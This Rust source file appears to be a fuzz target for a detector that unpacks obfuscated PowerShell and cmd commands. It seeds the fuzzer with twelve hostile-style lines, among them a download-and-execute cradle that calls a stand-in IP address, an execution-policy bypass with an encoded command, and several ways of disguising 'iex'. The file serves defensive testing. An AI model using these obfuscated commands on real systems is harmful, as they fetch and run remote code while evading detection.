//! Content of any kind, as bytes: the decoder under limits that small inputs reach.

use backstop_detectors::content::{Budget, ContentConfig, Kind, arguments, commands, powershell, unfold};
use backstop_detectors::powershell::{NAMES, conditions};

/// Texts that content is seeded with, besides what `pcaps/` holds.
pub const SEEDS: [&str; 12] = [
    "powershell.exe -ex bypass -Command \"iex ((New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'))\"",
    "powershell -w hidden -enc dwBoAG8AYQBtAGkA",
    "cmd /c \"set a=power&& set b=shell&& call %a%%b% -c whoami\" | p^owershell -",
    "&('i'+'ex') (\"{1}{0}\" -f 'ami','who')",
    "I`E`X (-join [char[]](119,104,111,97,109,105))",
    "iex ($s[-1..-($s.Length)] -join '') # x\n<# y #> @'\nz\n'@",
    "$s='imaohw'.ToCharArray();[array]::Reverse($s);iex (-join $s)",
    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))",
    "(50,45,42,36,40,44 | % { [char]($_ -bxor 69) }) -join '' | iex",
    "if ($a) { foreach ($b in $c) { & { iex \"$(irm http://a)${b}\" } } }",
    "&($env:comspec[4,26,25]-join'') ('wZZhoami' -replace 'ZZ','')",
    "%COMSPEC:~0,3% ^& !a:~1,-2! @ \\\\host\\ADMIN$\\temp\\a1B2c3D4e5F6.ps1",
];

/// Runs one input: the first byte says what it is.
pub fn run(input: &[u8]) {
    let Some((first, bytes)) = input.split_first() else { return };
    let kind = [Kind::Unknown, Kind::Script, Kind::Command][usize::from(*first) % 3];
    let config = if first & 0x80 == 0 {
        ContentConfig::default()
    } else {
        ContentConfig {
            max_input: 1 << 16,
            max_depth: 2,
            max_layers: 4,
            max_output: 1 << 10,
            max_tokens: 64,
            ..ContentConfig::default()
        }
    };
    let unfolding = unfold(bytes, kind, &NAMES, &config);
    assert!(unfolding.layers.len() <= config.max_layers, "layers are bounded");
    let output: usize = unfolding.layers.iter().map(|layer| layer.bytes.len()).sum();
    assert!(output <= config.max_output * 2, "output is bounded");
    assert!(unfolding.layers.iter().all(|layer| !layer.how.is_empty()), "each layer says how it came about");
    let met = conditions(&unfolding, &config);
    assert!(met.windows(2).all(|pair| pair[0].meta.sid < pair[1].meta.sid), "each condition once, in order");
    assert!(met.iter().filter_map(|told| told.layer).all(|layer| layer < unfolding.layers.len()), "evidence is there");

    let text = String::from_utf8_lossy(bytes);
    let tokens = powershell::tokens(&text, config.max_tokens);
    assert!(tokens.tokens.len() <= config.max_tokens.min(text.len()), "tokens are bounded by the text");
    assert!(arguments(&text).iter().map(String::len).sum::<usize>() <= text.len(), "arguments are parts of the line");
    let mut budget = Budget::new(&config);
    let (all, _) = commands(&text, &mut budget);
    assert!(
        all.iter().map(|command| command.text.len()).sum::<usize>() <= text.len() + config.max_output,
        "commands are bounded"
    );
}
